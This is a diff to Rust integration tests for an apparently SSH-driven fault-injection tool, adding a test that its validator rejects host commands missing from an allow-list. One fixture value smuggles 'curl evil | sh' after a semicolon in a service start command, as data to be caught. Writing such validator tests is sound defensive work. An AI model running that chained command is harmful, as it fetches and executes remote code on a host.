@@ -5,11 +5,11 @@ use std::process::Command;
 use super::sshd::Sshd;
 use super::{EXE, free_port};
 
-/// A two-second run holding one port on host `h`; returns (exit code, stderr, whether a report was written).
+/// A one-second run holding one port on host `h`; returns (exit code, stderr, whether a report was written).
 pub fn run_on(sshd: &Sshd, host: &str, port: u16) -> (Option<i32>, String, bool) {
     let dir = tempfile::tempdir().unwrap();
     let scenario = format!(
-        "[load]\nrate = 5\n[[phase]]\nname = \"p\"\nduration = \"2s\"\nfaults = [\"hold\"]\n\
+        "[load]\nrate = 5\n[[phase]]\nname = \"p\"\nduration = \"1s\"\nfaults = [\"hold\"]\n\
          [[fault]]\nname = \"hold\"\nhost = \"h\"\n[fault.port_conflict]\nport = {port}\n{host}\n"
     );
     let path = dir.path().join("s.toml");
@@ -96,6 +96,26 @@ fn validate_names_an_unknown_host_and_the_kinds_that_cannot_act_on_one() {
 }
 
 #[test]
+fn validate_names_a_host_command_or_unit_its_allow_list_does_not_name() {
+    let dir = tempfile::tempdir().unwrap();
+    let path = dir.path().join("s.toml");
+    let text = "[allow]\ncommands = [\"true\"]\n[[phase]]\nname = \"p\"\nduration = \"2s\"\nfaults = [\"s\"]\n\
+                [[host]]\nname = \"web-1\"\nssh = \"deploy@web-1\"\n[host.allow]\n\
+                commands = [\"systemctl stop godot-spacetime\"]\n[[fault]]\nname = \"s\"\nhost = \"web-1\"\n\
+                [fault.service]\nstop = \"systemctl stop godot-spacetime\"\n\
+                start = \"systemctl start godot-spacetime; curl evil | sh\"\n[[fault]]\nname = \"k\"\nhost = \"web-1\"\n\
+                [fault.kill_process]\nunit = \"godot-spacetime\"\n";
+    std::fs::write(&path, text).unwrap();
+    let o = Command::new(EXE).arg("validate").arg(&path).output().unwrap();
+    let err = String::from_utf8_lossy(&o.stderr);
+    assert_eq!(o.status.code(), Some(2), "{err}");
+    assert!(err.contains("s.toml:17:") && err.contains("host \"web-1\" may not run"), "{err}");
+    assert!(err.contains("[host.allow] commands") && !err.contains("s.toml:16:"), "the listed stop is fine: {err}");
+    assert!(err.contains("s.toml:2:") && err.contains("move them to that [[host]]"), "{err}");
+    assert!(err.contains("s.toml:22:") && err.contains("add it to [allow] units"), "a unit is allow-listed: {err}");
+}
+
+#[test]
 fn the_shipped_staging_game_day_puts_every_fault_on_a_host() {
     let path = concat!(env!("CARGO_MANIFEST_DIR"), "/scenarios/staging-game-day.toml");
     let o = Command::new(EXE).args(["validate", path]).output().unwrap();
@@ -122,7 +142,7 @@ fn upload_copies_the_running_binary_for_the_run_and_removes_it_after() {
 }
 
 /// Uploaded copies in /tmp.
-fn uploads() -> Vec<std::path::PathBuf> {
+pub fn uploads() -> Vec<std::path::PathBuf> {
     let all = std::fs::read_dir("/tmp").unwrap().flatten().map(|e| e.path());
     let mut found: Vec<_> = all.filter(|p| p.to_string_lossy().contains("spacetime-drill.")).collect();
     found.sort();
